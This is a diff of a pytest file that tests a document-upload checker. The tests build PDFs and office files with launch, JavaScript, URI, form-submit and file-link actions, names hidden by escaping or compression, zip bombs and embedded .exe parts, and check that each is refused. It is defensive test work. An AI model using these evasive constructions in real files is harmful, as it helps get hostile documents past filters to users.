-        lambda: pdf(f"<</Type/Page/AA<</O<</S/URI/URI({HTTP})>>>>>>"),
-        names("URI"),
-    ),
+LOCKED = "This PDF is locked. Choose a PDF without a password."
+NOT_ONLY_PDF = (
+    "This PDF contains something that is not part of it. Open it, print it to a new PDF, then "
+    "choose the new PDF."
+)
+TOO_LARGE = "The file is too large after unpacking. Choose a smaller file."
+SCRIPT = zlib.compress(b"<</S/JavaScript>>")
+# What a PDF does at its start, the names that annotations have, and other objects.
+PDF_ACTIONS = [
+    ("SubmitForm", "/S/SubmitForm/F(http://a/)", "SubmitForm"),
+    ("ImportData", "/S/ImportData/F(a)", "ImportData"),
+    ("GoToR", "/S/GoToR/F(a.pdf)", "GoToR"),
+    ("GoToE", "/S/GoToE/T<<>>", "GoToE"),
+    ("escaped name", "/S/GoTo#52/F(a.pdf)", "GoToR"),
+    ("script", "/S/JavaScript/JS(a)", "JavaScript"),
+    ("program", "/S/Launch/F(a.exe)", "Launch"),
+    ("Rendition", "/S/Rendition", "Rendition"),
+    ("Sound", "/S/Sound", "Sound"),
+    ("menu command", "/S/Named/N/Quit", "Quit"),
+    ("action after an action", "/S/GoTo/Next[<</S/Hide>>]", "Hide"),
+    ("address at the start", f"/S/URI/URI({HTTP})", "URI"),
+    ("address after the start", f"/S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI({HTTP})>>", "URI"),
+]
+PDF_OBJECTS: list[tuple[str, list[str | bytes], str]] = [
+    *((name, [annotation(name)], name) for name in ("Movie", "Screen", "3D", "FileAttachment")),
+    ("link to a file", [annotation("Link", "/A<</S/URI/URI(file://a/b)>>")], "file://a/b"),
+    ("link to a share", [annotation("Link", "/A<</S/URI/URI(\\\\\\\\a\\\\b)>>")], "\\\\a\\b"),
+    ("script without a kind", ["<</JS(a)>>"], "JS"),
+    ("scripts by name", ["<</JavaScript(x)>>"], "JavaScript"),
+    ("scripts by an escaped name", ["<</J#61vaScript(x)>>"], "JavaScript"),
+    ("action of an event", ["<</AA<</O<</S/ResetForm>>>>>>"], "ResetForm"),
+    ("address of a page that opens", [f"<</Type/Page/AA<</O<</S/URI/URI({HTTP})>>>>>>"], "URI"),
     (
         "address of an event, in objects of their own",
-        lambda: pdf("<</AA 5 0 R>>", "<</PV 6 0 R>>", f"<</S/URI/URI({HTTP})>>"),
-        names("URI"),
+        ["<</AA 5 0 R>>", "<</PV 6 0 R>>", f"<</S/URI/URI({HTTP})>>"],
+        "URI",
     ),
-    (
-        "link to a file",
-        lambda: pdf_noting("Link", "/A<</S/URI/URI(file://a/b)>>"),
-        names("file://a/b"),
-    ),
-    (
-        "link to a share",
-        lambda: pdf_noting("Link", "/A<</S/URI/URI(\\\\\\\\a\\\\b)>>"),
-        names("\\\\a\\b"),
-    ),
-    ("other file", lambda: pdf("<</Type/Filespec/F(a)>>"), names("Filespec")),
-    ("file system of the web", lambda: pdf("<</FS/URL/F(http://a/)>>"), names("FS")),
-    ("content elsewhere", lambda: pdf(stream("/F(http://a/)", b"")), names("Filespec")),
-    (
-        "page of another file",
-        lambda: pdf(stream("/Subtype/Form/Ref<</Page 1>>", b"")),
-        names("Ref"),
-    ),
-    ("form of another kind", lambda: pdf(catalog="/AcroForm<</XFA(a)>>"), names("XFA")),
+    ("other file", ["<</Type/Filespec/F(a)>>"], "Filespec"),
+    ("file system of the web", ["<</FS/URL/F(http://a/)>>"], "FS"),
+    ("content elsewhere", [stream("/F(http://a/)", b"")], "Filespec"),
+    ("page of another file", [stream("/Subtype/Form/Ref<</Page 1>>", b"")], "Ref"),
     (
         "action in packed objects",
-        lambda: pdf(
-            stream(
-                "/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"9 0 <</S/GoToR>>")
-            )
-        ),
-        names("GoToR"),
+        [stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"9 0 <</S/GoToR>>"))],
+        "GoToR",
     ),
-    ("action where none is expected", lambda: pdf("<</S/Thread>>"), names("Thread")),
-    ("action by its type", lambda: pdf("<</Type/Action/S/Hide>>"), names("Hide")),
-    ("annotation without a place", lambda: pdf("<</Type/Annot/Subtype/3D>>"), names("3D")),
-    ("annotation by its place", lambda: pdf("<</Rect[0 0 1 1]/Subtype/3D>>"), names("3D")),
-    ("file by its type", lambda: pdf("<</Type/Filespec/UF(a)>>"), names("Filespec")),
-    ("file by its name", lambda: pdf("<</F<</UF(a)>>>>"), names("Filespec")),
-    ("content in an unknown file", lambda: pdf(stream("/F<<>>", b"")), names("Filespec")),
-    ("program for printers", lambda: pdf(stream("/Subtype/PS", b"")), names("PS")),
-    ("action of a link", lambda: pdf("<</PA<</S/Hide>>>>"), names("Hide")),
-    (
-        "script at the end",
-        lambda: pdf().replace(b"trailer<<", b"trailer<</JS(a)"),
-        names("JS"),
-    ),
+    ("packed script", [stream("/Type/Obj#53tm", SCRIPT)], "JavaScript"),
+    ("packed script after spaces", [stream("/Type/ObjStm" + " " * 500, SCRIPT)], "JavaScript"),
+    ("packed script without a type", [stream("/ObjStm", SCRIPT)], "JavaScript"),
+    ("action where none is expected", ["<</S/Thread>>"], "Thread"),
+    ("action by its type", ["<</Type/Action/S/Hide>>"], "Hide"),
+    ("annotation without a place", ["<</Type/Annot/Subtype/3D>>"], "3D"),
+    ("annotation by its place", ["<</Rect[0 0 1 1]/Subtype/3D>>"], "3D"),
+    ("file by its type", ["<</Type/Filespec/UF(a)>>"], "Filespec"),
+    ("file by its name", ["<</F<</UF(a)>>>>"], "Filespec"),
+    ("content in an unknown file", [stream("/F<<>>", b"")], "Filespec"),
+    ("program for printers", [stream("/Subtype/PS", b"")], "PS"),
+    ("action of a link", ["<</PA<</S/Hide>>>>"], "Hide"),
+]
+OTHER_PDF_FILES: list[Case] = [
+    ("form of another kind", lambda: pdf(catalog="/AcroForm<</XFA(a)>>"), names("XFA")),
+    ("script at the end", lambda: pdf().replace(b"trailer<<", b"trailer<</JS(a)"), names("JS")),
     ("object in a stream", lambda: packed_pdf("<</S/Thread>>"), names("Thread")),
     (
         "key that hides a password",
         lambda: pdf().replace(
             b"/Root", b"/#45ncrypt<</Filter/Standard/V 1/R 2/O(a)/U(a)/P 1>>/Root"
         ),
-        "This PDF is locked. Choose a PDF without a password.",
+        LOCKED,
     ),
+    ("password", lambda: pdf().replace(b"/Root", b"/Encrypt 2 0 R/Root"), LOCKED),
+    ("archive behind it", lambda: pdf() + docx(), NOT_ONLY_PDF),
+    ("no end", lambda: b"%PDF-1.4\nno end", NOT_ONLY_PDF),
 ]
+
+
+def pdfs() -> Iterator[Case]:
+    for name, action, said in PDF_ACTIONS:
+        yield name, partial(pdf, catalog=f"/OpenAction<<{action}>>"), names(said)
+    for name, objects, said in PDF_OBJECTS:
+        yield name, partial(pdf, *objects), names(said)
+    yield from OTHER_PDF_FILES
 
 
 @pytest.mark.usefixtures("pdf_in_this_process")
 @pytest.mark.parametrize(
-    ("make", "said"), [pytest.param(make, said, id=name) for name, make, said in PDF_FILES]
+    ("make", "said"), [pytest.param(make, said, id=name) for name, make, said in pdfs()]
 )
 def test_unsafe_pdf_is_refused_by_name(make: Callable[[], bytes], said: str) -> None:
     assert sentence(make()) == said
@@ -708,7 +548,7 @@ def test_unsafe_pdf_is_refused_by_name(make: Callable[[], bytes], said: str) -> 
 @pytest.mark.own_process
 def test_pdf_is_checked_in_a_process_with_limits(monkeypatch: pytest.MonkeyPatch) -> None:
     assert is_taken(pdf())
-    assert sentence(pdf_noting("Screen")) == names("Screen")
+    assert sentence(pdf(annotation("Screen"))) == names("Screen")
     unknown = "We cannot check this PDF. Print it to a new PDF, then choose the new PDF."
     assert sentence(b"%PDF-1.4\nnothing\n%%EOF") == unknown
 
@@ -719,34 +559,44 @@ def test_pdf_is_checked_in_a_process_with_limits(monkeypatch: pytest.MonkeyPatch
     assert sentence(pdf()) == unknown
 
 
+def test_zip_bomb_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(office_parts, "MAX_UNPACKED_BYTES", 100_000)
+    monkeypatch.setattr(pdf_files, "MAX_UNPACKED_BYTES", 100_000)
+    assert sentence(docx({"word/big.xml": "0" * 200_000})) == TOO_LARGE
+    bomb = stream("/Type/ObjStm", zlib.compress(bytes(200_000)))
+    assert sentence(pdf(bomb)) == TOO_LARGE
+
+
 def test_archive_has_at_most_two_thousand_parts() -> None:
-    unpacked = "The file is too large after unpacking. Choose a smaller file."
     pictures = {f"word/media/{number}.jpeg": JPEG for number in range(1_998)}
     assert is_taken(docx(pictures))
-    assert sentence(docx(pictures | {"word/media/more.jpeg": JPEG})) == unpacked
+    assert sentence(docx(pictures | {"word/media/more.jpeg": JPEG})) == TOO_LARGE
     # The parts of the workbook of a chart count too.
     del pictures["word/media/0.jpeg"]
-    assert sentence(docx(pictures | {"word/embeddings/a.xlsx": xlsx()})) == unpacked
+    assert sentence(docx(pictures | {"word/embeddings/a.xlsx": xlsx()})) == TOO_LARGE
 
 
 def test_xml_is_parsed_up_to_a_limit(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(office_parts, "MAX_XML_BYTES", 50_000)
     assert is_taken(docx({"a.xml": f"<a>{'a' * 40_000}</a>"}))
-    unpacked = "The file is too large after unpacking. Choose a smaller file."
-    assert sentence(docx({"a.xml": f"<a>{'a' * 60_000}</a>"})) == unpacked
-    assert sentence(odf(f"<text:p>{'a' * 60_000}</text:p>")) == unpacked
+    assert sentence(docx({"a.xml": f"<a>{'a' * 60_000}</a>"})) == TOO_LARGE
+    assert sentence(odf(f"<text:p>{'a' * 60_000}</text:p>")) == TOO_LARGE
 
 
 def test_long_name_is_cut_in_the_sentence() -> None:
     assert sentence(docx({f"{'a' * 200}.exe": b"MZ"})) == is_program("a" * 80 + "…")
 
 
-def test_odf_needs_its_kind_first() -> None:
-    assert sentence(zipped({"content.xml": "<a/>", "mimetype": "application/x"})) == UNREADABLE
-    assert sentence(zipped({"mimetype": "application/x", "content.xml": "<a/>"})) == UNREADABLE
-
-
-TOO_LARGE = "The file is too large after unpacking. Choose a smaller file."
+def test_archive_that_says_no_kind_is_refused() -> None:
+    word = {"word/document.xml": "<w/>"}
+    for content in (
+        zipped({"content.xml": "<a/>", "mimetype": "application/x"}),
+        zipped({"mimetype": "application/x", "content.xml": "<a/>"}),
+        zipped({"a.txt": "x"}),
+        zipped(word),
+        zipped(word, comment=b"<script>"),
+    ):
+        assert sentence(content) == UNREADABLE
 
 
 def test_deep_elements_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
